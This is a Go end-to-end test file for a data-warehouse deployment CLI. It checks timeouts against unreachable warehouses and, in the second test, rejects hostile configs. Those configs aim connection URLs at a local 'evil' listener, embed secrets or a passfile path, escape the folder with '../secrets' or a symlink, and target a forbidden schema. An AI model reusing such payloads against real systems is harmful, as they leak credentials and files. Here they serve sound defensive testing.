package e2e_test

import (
	"net"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
)

// seconds is what a command may take on a busy machine that has to say something at once: far less than the ten minutes
// for which work that has begun is tried again.
const seconds = 45 * time.Second

// listener accepts sessions, says nothing, and keeps what it is told.
type listener struct {
	address string
	heard   chan []byte
}

func listen(t *testing.T) *listener {
	t.Helper()
	socket, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	t.Cleanup(func() { _ = socket.Close() })
	l := &listener{address: socket.Addr().String(), heard: make(chan []byte, 1024)}
	go func() {
		for {
			c, err := socket.Accept()
			if err != nil {
				return
			}
			t.Cleanup(func() { _ = c.Close() })
			go func() {
				b := make([]byte, 4096)
				n, _ := c.Read(b)
				l.heard <- b[:n]
			}()
		}
	}()
	return l
}

// A warehouse that nobody can reach is said within seconds, by every command that begins something, and an environment
// beside it goes on.
func TestEveryCommandSaysThatAWarehouseIsUnreachable(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	silent := listen(t)
	w.policy("dev", "approval: {required: false}\nconnections: {warehouse: {url: \"postgres://u@"+silent.address+"/d?sslmode=disable\"}}\n")
	socket, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	nobody := socket.Addr().String()
	require.NoError(t, socket.Close())
	w.policy("staging", "approval: {required: false}\nconnections: {warehouse: {url: \"postgres://u@"+nobody+"/d?sslmode=disable\"}}\n")
	w.policy("prod", "approval: {required: false}\n")
	w.worker("worker", everything()...)
	folder := w.release("1.0.0")
	w.cli(0, "build", folder)
	for env, says := range map[string]string{"dev": "did not answer", "staging": "nothing listens"} {
		for _, args := range [][]string{
			{"validate", "shop@1.0.0", "--env", env},
			{"plan", "shop@1.0.0", "--to", env},
			{"deploy", "shop@1.0.0", "--to", env},
			{"run", "shop@1.0.0", "--env", env, "--partition", newestDay},
			{"history", shop, "--env", env},
			{"checksum", shop, "--env", env, "--output", "orders"},
			{"doctor", shop, "--env", env},
		} {
			if env == "staging" && (args[0] == "plan" || args[0] == "deploy") {
				continue // they ask dev first
			}
			began := time.Now()
			a := w.try(args...)
			require.Less(t, time.Since(began), seconds, args)
			require.NotZero(t, a.code, args)
			require.Contains(t, a.out+a.err, says, args)
			require.NotContains(t, a.out+a.err, "127.0.0.1", args)
		}
	}
	w.cli(0, "validate", "shop@1.0.0", "--env", "prod")
}

// A config sends no secret of the worker anywhere, reads no file outside the roots, and names no schema of another
// environment.
func TestAConfigReachesNothingThatThePolicyDoesNotName(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	evil := listen(t)
	w.write("secrets/pgpass", "db.internal:5432:warehouse:runner:"+planted+"\n")
	require.NoError(t, os.Symlink(w.path("secrets"), w.path("source/data/out")))
	w.write("policies/policy.dev.yaml", "approval: {required: false}\nconnections: {warehouse: {url: \"${env:"+warehouseURL+"}\", schemas: {write: [shop_dev]}}}\n")
	w.worker("worker", everything()...)
	config := func(lines string) string {
		w.write("other/config.dev.yaml", lines)
		return filepath.Join(w.dir, "other", "config.dev.yaml")
	}
	folder := w.release("1.0.0")
	for _, c := range []struct{ config, says string }{
		{"warehouse: \"postgres://u:${env:" + warehouseURL + "}@" + evil.address + "/x?sslmode=disable\"\nwarehouse_schema: shop_dev\n", "no reference"},
		{"warehouse: \"postgres://u@" + evil.address + "/x\"\nwarehouse_schema: shop_dev\n", "no such connection"},
		{"warehouse: \"postgres://u@" + evil.address + "/x?passfile=" + w.path("secrets/pgpass") + "\"\nwarehouse_schema: shop_dev\n", "passfile="},
		{"warehouse_schema: shop\n", "lets nobody write schema shop"},
		{"warehouse_schema: shop_dev\nsource_files: " + w.path("secrets") + "\n", "source_files"},
		{"warehouse_schema: shop_dev\nsource_files: ../secrets\n", "leaves the folder"},
	} {
		for _, args := range [][]string{{"plan", folder, "--to", "dev"}, {"deploy", folder, "--to", "dev"}} {
			a := w.try(append(args, "--config", "dev="+config(c.config))...)
			require.NotZero(t, a.code, "%s of %s\n%s%s", args, c.config, a.out, a.err)
			require.Contains(t, a.out+a.err, c.says, c.config)
		}
	}
	linked := w.release("1.0.1", "data/channels.csv", "data/out/pgpass")
	a := w.try("plan", linked, "--to", "dev")
	require.NotZero(t, a.code, a.out+a.err)
	require.Contains(t, a.out+a.err, "link leads out")
	require.Empty(t, evil.heard, "somebody came to the author's own host")
	require.Zero(t, w.number(`SELECT count(*) FROM pg_namespace WHERE nspname IN ('shop', 'shop__ledger')`))
	w.never(planted)
}
